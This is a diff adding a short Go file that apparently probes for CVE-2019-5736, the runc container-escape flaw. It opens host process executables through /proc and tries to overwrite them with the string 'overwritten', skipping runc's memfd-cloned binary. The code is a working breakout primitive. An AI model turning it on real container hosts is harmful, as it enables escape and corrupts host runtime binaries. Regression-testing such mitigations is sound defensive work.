@@ -1,0 +1,47 @@
+// SPDX-License-Identifier: Apache-2.0
+
+package main
+
+import (
+	"os"
+	"strconv"
+	"strings"
+
+	"golang.org/x/sys/unix"
+)
+
+// overwrite looks for a while at the programs of the processes it sees and
+// overwrites each that is not of the container: the way of CVE-2019-5736. It
+// returns what it has reached.
+func overwrite() string {
+	var reached []string
+	for range 100 {
+		for pid := 1; pid < 8; pid++ {
+			if name := reach("/proc/" + strconv.Itoa(pid) + "/exe"); name != "" {
+				reached = append(reached, name+"\n")
+			}
+		}
+	}
+	return strings.Join(reached, "")
+}
+
+func reach(exe string) string {
+	fd, err := unix.Open(exe, unix.O_PATH, 0)
+	if err != nil {
+		return ""
+	}
+	defer unix.Close(fd)
+	link := "/proc/self/fd/" + strconv.Itoa(fd)
+	name, _ := os.Readlink(link)
+	var theirs, named unix.Stat_t
+	unix.Fstat(fd, &theirs)
+	if unix.Stat(name, &named); named.Ino == theirs.Ino || strings.HasPrefix(name, "/memfd:init ") {
+		return ""
+	}
+	out, err := unix.Open(link, unix.O_WRONLY, 0)
+	if err == nil {
+		_, err = unix.Write(out, []byte("overwritten"))
+		unix.Close(out)
+	}
+	return name + " " + word(err)
+}
